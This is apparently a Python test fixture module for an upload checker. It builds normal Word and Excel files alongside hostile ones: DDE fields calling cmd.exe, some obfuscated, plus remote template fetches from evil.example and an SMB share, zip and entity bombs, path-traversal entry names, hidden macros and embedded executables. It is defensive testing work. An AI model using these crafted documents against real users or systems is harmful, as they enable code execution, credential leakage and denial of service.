"""Word and Excel files: as offices save them, and as attackers do."""

import io
import struct
import zipfile
from collections.abc import Callable
from functools import cache
from typing import Any

import openpyxl
import xlsxwriter

from tests.uploads import images

Parts = dict[str, bytes]

TYPE = "application/vnd.openxmlformats-officedocument."
WORD, EXCEL = f"{TYPE}wordprocessingml.document.main+xml", f"{TYPE}spreadsheetml.sheet.main+xml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SPACE = 'xmlns="http://schemas.openxmlformats.org/package/2006/{}"'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def types(main: str, place: str, more: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Types {SPACE.format("content-types")}>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{more}'
        f'<Override PartName="{place}" ContentType="{main}"/></Types>'
    ).encode()


def relations(*rows: tuple[str, str, str]) -> bytes:
    """(kind, target, mode) each."""
    inner = "".join(
        f'<Relationship Id="r{n}" Type="{REL}/{kind}" Target="{target}"' + (f' TargetMode="{mode}"/>' if mode else "/>")
        for n, (kind, target, mode) in enumerate(rows)
    )
    return f"<Relationships {SPACE.format('relationships')}>{inner}</Relationships>".encode()


def docx(main: str = WORD, more: Parts | None = None, body: str = "<w:p/>", extra: str = "") -> Parts:
    """The parts of a document."""
    return {
        "[Content_Types].xml": types(main, "/word/document.xml", extra),
        "_rels/.rels": relations(("officeDocument", "word/document.xml", "")),
        "word/document.xml": f'<?xml version="1.0"?><w:document {W}><w:body>{body}</w:body></w:document>'.encode(),
    } | (more or {})


def zipped(parts: Parts, stored: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), content, archive.compression)
    return out.getvalue()


class Pipe(io.RawIOBase):
    """A place that cannot be gone back in: sizes then stand behind the parts, as LibreOffice and Java write them."""

    def __init__(self) -> None:
        self.data = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, data: Any) -> int:
        self.data += data
        return len(data)


def piped(parts: Parts) -> bytes:
    pipe = Pipe()
    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return bytes(pipe.data)


def padded(parts: Parts) -> bytes:
    """With room to grow in the head of a part, as Excel leaves it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.extra = struct.pack("<HH", 0xA220, 40) + b"\0" * 40
            archive.writestr(info, content)
    return out.getvalue()


def workbook() -> bytes:
    book = openpyxl.Workbook()
    for row in (["姓名", "承诺事项"], *([f"党员{n}", "每月走访"] for n in range(300))):
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def charted() -> bytes:
    """A workbook with a chart, a picture, a link and a comment (XlsxWriter)."""
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    sheet = book.add_worksheet("统计")
    sheet.write_column("A1", [3, 5, 7])
    sheet.write_url("B1", "https://www.example.com/a")
    sheet.write_comment("A1", "说明")
    chart = book.add_chart({"type": "column"})
    chart.add_series({"values": "=统计!$A$1:$A$3"})
    sheet.insert_chart("D2", chart)
    sheet.insert_image("D20", "a.png", {"image_data": io.BytesIO(images.saved(images.scene(60, 40), "PNG"))})
    book.close()
    return out.getvalue()


WPS = {
    "docProps/custom.xml": b'<Properties><property name="KSOProductBuildVer"><v>2052-12.1.0.16120</v></property></Properties>',
    "docProps/app.xml": b"<Properties><Application>WPS Office_12.1.0.16120</Application></Properties>",
}
LINK = '<w:p><w:r><w:fldChar/><w:instrText xml:space="preserve"> HYPERLINK "https://example.com" </w:instrText></w:r></w:p>'


@cache
def good() -> dict[str, tuple[bytes, str]]:
    embedded = docx(more={
        "word/embeddings/Microsoft_Excel_Sheet.xlsx": workbook(), "word/media/image1.png": images.good()["png photo"],
        "word/charts/chart1.xml": b"<c:chartSpace/>",
        "word/_rels/document.xml.rels": relations(
            ("package", "embeddings/Microsoft_Excel_Sheet.xlsx", ""), ("hyperlink", "https://example.com/", "External"),
            ("image", "media/image1.png", ""),
        ),
    })  # fmt: skip
    template = {
        "word/_rels/settings.xml.rels": relations(("attachedTemplate", r"file:///C:\Users\a\报告.dotx", "External"))
    }
    equation = {"word/embeddings/oleObject1.bin": OLE + b"\0" * 600 + "Equation Native".encode("utf-16-le")}
    outer = {
        "[Content_Types].xml": types(EXCEL, "/xl/workbook.xml"),
        "_rels/.rels": relations(("officeDocument", "xl/workbook.xml", "")),
        "xl/workbook.xml": b"<workbook/>", "xl/externalLinks/externalLink1.xml": b"<externalLink><externalBook/></externalLink>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": relations(("externalLinkPath", "file:///D:/b.xlsx", "External")),
        "xl/printerSettings/printerSettings1.bin": b"\0P\0r\0i\0n\0t" * 50,
    }  # fmt: skip
    return {
        "docx": (zipped(docx()), "docx"),
        "docx of wps": (zipped(docx(more=WPS)), "docx"),
        "docx with chart and picture": (zipped(embedded), "docx"),
        "docx with a link field": (zipped(docx(body=LINK)), "docx"),
        "docx of a template of one's own": (zipped(docx(more=template)), "docx"),
        "docx with an equation": (zipped(docx(more=equation)), "docx"),
        "docx with folders": (zipped(docx(more={"word/media/": b""})), "docx"),
        "docx stored": (zipped(docx(), stored=True), "docx"),
        "docx of a stream": (piped(docx()), "docx"),
        "docx with its index last": (zipped(dict(reversed(docx().items()))), "docx"),
        "xlsx of openpyxl": (workbook(), "xlsx"),
        "xlsx with chart and picture": (charted(), "xlsx"),
        "xlsx of wps": (zipped(outer | WPS), "xlsx"),
        "xlsx with room to grow": (padded(outer), "xlsx"),
    }


def patched(data: bytes, change: Callable[[bytearray], None]) -> bytes:
    made = bytearray(data)
    change(made)
    return bytes(made)


def _index(data: bytes | bytearray, name: bytes) -> int:
    """Where the entry of a part stands in the zip's index."""
    at = data.rindex(b"PK\x01\x02", 0, data.rindex(name))
    return at


def lying(size: int) -> bytes:
    """An entry that quotes another size than its content has."""
    data = zipped(docx(more={"word/media/a.emf": b"0" * 5_000_000}))
    return patched(data, lambda made: struct.pack_into("<I", made, _index(made, b"word/media/a.emf") + 24, size))


def overlapping() -> bytes:
    """A part that lies inside another: both are read, and more comes out than went in."""
    small = zipped({"word/media/b.emf": b"0" * 9000})
    record = small[: small.index(b"PK\x01\x02")]
    parts = docx(more={"word/media/a.emf": record, "word/media/b.emf": b"0" * 9000})
    data = zipped(parts, stored=True)

    def move(made: bytearray) -> None:
        at, inner = _index(made, b"word/media/b.emf"), _index(small, b"word/media/b.emf")
        made[at + 8 : at + 28] = small[inner + 8 : inner + 28]
        struct.pack_into("<I", made, at + 42, data.index(record))

    return patched(data, move)


def renamed(parts: Parts, old: str, new: str) -> bytes:
    """A package with a name that zipfile would not write."""
    return zipped(parts).replace(old.encode(), new.encode())


def bomb(size: int) -> Parts:
    return docx(more={"word/media/a.emf": b"\0" * size})


def ole(word: str, more: bytes = b"") -> bytes:
    return OLE + b"\0" * 504 + word.encode("utf-16-le") + more + b"\0" * 600


MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
XMACRO = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
VBA = {"word/vbaProject.bin": ole("VBA")}
DTD = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'


@cache
def bad() -> dict[str, bytes]:
    plain, packed = zipped(docx()), zipped(bomb(9_000_000))
    template = relations(("attachedTemplate", "https://evil.example/a.dotm", "External"))
    share = relations(("attachedTemplate", r"\\evil\a.dotm", "External"))
    remote = relations(("oleObject", "mhtml:http://evil.example/a!x-usc:b", "External"))
    slip = {"word/media/xx/yy.png": b"1", "xy/abcde.xml": b"<a/>"}
    with_dde = (
        "<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"
    )
    dde = docx(body=with_dde)
    both = docx(
        extra=f'<Override PartName="/xl/workbook.xml" ContentType="{EXCEL}"/>', more={"xl/workbook.xml": b"<w/>"}
    )
    sheet = {"[Content_Types].xml": types(EXCEL, "/xl/workbook.xml"), "xl/workbook.xml": b"<workbook/>"}
    return {
        "docm as docx": zipped(docx(MACRO, VBA)),
        "docx with hidden macros": zipped(docx(more=VBA)),
        "xlsm as xlsx": zipped({"[Content_Types].xml": types(XMACRO, "/xl/workbook.xml"), "xl/workbook.xml": b"<w/>"}),
        "xlsx with old macros": zipped(sheet | {"xl/macrosheets/sheet1.xml": b"<m/>"}),
        "xlsx that calls": zipped(sheet | {"xl/externalLinks/externalLink1.xml": b'<e><ddeLink ddeService="cmd"/></e>'}),
        "xlsb": zipped({"[Content_Types].xml": types(EXCEL, "/xl/workbook.bin"), "xl/workbook.bin": b"\x83\x01"}),
        "docx with controls": zipped(docx(more={"word/activeX/activeX1.bin": b"1"})),
        "docx that fetches a template": zipped(docx(more={"word/_rels/settings.xml.rels": template})),
        "docx that fetches from a share": zipped(docx(more={"word/_rels/settings.xml.rels": share})),
        "docx that fetches an object": zipped(docx(more={"word/_rels/document.xml.rels": remote})),
        "docx that calls": zipped(dde),
        "docx that calls in other quotes": zipped(docx(body="<w:fldSimple w:instr = 'DDEAUTO cmd'/>")),
        "docx that calls in numbers": zipped(docx(body="<w:r><w:instrText>&#68;DEAUTO cmd</w:instrText></w:r>")),
        "docx that calls in wide letters": zipped(docx() | {"word/document.xml": dde["word/document.xml"].decode().encode("utf-16")}),
        "docx that calls behind a remark": zipped(docx(body="<w:instrText/><w:instrText>DD<!-- -->E<![CDATA[AUTO]]></w:instrText>")),
        "docx of fields without end": zipped(docx(body="<w:instrText " * 100_000 + "<w:instrText>DDE</w:instrText>")),
        "docx of many bombs": zipped(docx(more={
            f"word/embeddings/{at}.docx": packed for at in range(40)}), stored=True),
        "docx with a program": zipped(docx(more={"word/embeddings/a.bin": b"MZ\x90\0"})),
        "docx with a script": zipped(docx(more={"word/run.vbs": b"x"})),
        "docx with a packed program": zipped(docx(more={"word/embeddings/oleObject1.bin": ole("\1Ole10Native")})),
        "docx with a docm": zipped(docx(more={"word/embeddings/a.docx": zipped(docx(MACRO, VBA))})),
        "docx with a bomb": zipped(docx(more={"word/embeddings/a.docx": zipped(bomb(40_000_000))})),
        "docx in docx in docx in docx": zipped(docx(more={"word/embeddings/a.docx": zipped(docx(more={
            "word/embeddings/b.docx": zipped(docx(more={"word/embeddings/c.docx": plain}))}))})),
        "docx bomb": zipped(bomb(60_000_000)),
        "docx bomb by a lie": lying(10),
        "docx bigger by a lie": lying(9_000_000),
        "docx overlapping": overlapping(),
        "docx behind a program": b"MZ\x90\0" + plain,
        "docx before other bytes": plain + b"<script>alert(1)</script>",
        "docx with a remark": patched(plain, lambda made: made.__setitem__(slice(-2, None), b"\4\0zzzz")),
        "docx behind a zip": zipped({"a.txt": b"1"})[:-22] + plain,
        "docx of two kinds": zipped(both),
        "docx with one name twice": renamed(docx(more={"word/a1.xml": b"<a/>", "word/a2.xml": b"<b/>"}), "word/a2.xml", "word/a1.xml"),
        "docx that climbs": renamed(docx(more=slip), "word/media/xx/", "word/../../../x"[:14]),
        "docx of the root": renamed(docx(more=slip), "xy/abcde.xml", "/etc/cron.xm"),
        "docx with backslashes": renamed(docx(more=slip), "xy/abcde.xml", "xy\\abcde.xml"),
        "docx of two names": plain.replace(b"word/document.xml", b"word/another0.xml", 1),
        "docx with a bomb of entities": zipped(docx(more={"word/styles.xml": DTD})),
        "docx whose index is such a bomb": zipped(docx() | {"[Content_Types].xml": DTD}),
        "docx locked": patched(plain, lambda made: made.__setitem__(_index(made, b"word/document.xml") + 8, 1)),
        "docx cut": plain[: len(plain) // 2],
        "docx damaged": patched(plain, lambda made: made.__setitem__(slice(60, 70), b"damaged!!!")),
        "docx without its part": zipped({"[Content_Types].xml": types(WORD, "/word/document.xml")}),
        "dotx": zipped(docx(f"{TYPE}wordprocessingml.template.main+xml")),
        "pptx": zipped({"[Content_Types].xml": types("x", "/ppt/p.xml"), "ppt/presentation.xml": b"<p/>"}),
        "odt": zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "META-INF/manifest.xml": b"<m/>"}),
        "ofd": zipped({"OFD.xml": b"<ofd/>", "Doc_0/Document.xml": b"<d/>"}),
        "zip": zipped({"a.txt": b"1"}),
        "doc": ole("WordDocument"),
        "xls": ole("Workbook"),
        "ppt": ole("PowerPoint Document"),
        "docx with a password": ole("EncryptedPackage"),
        "wps": ole("WpsDocument"),
    }  # fmt: skip
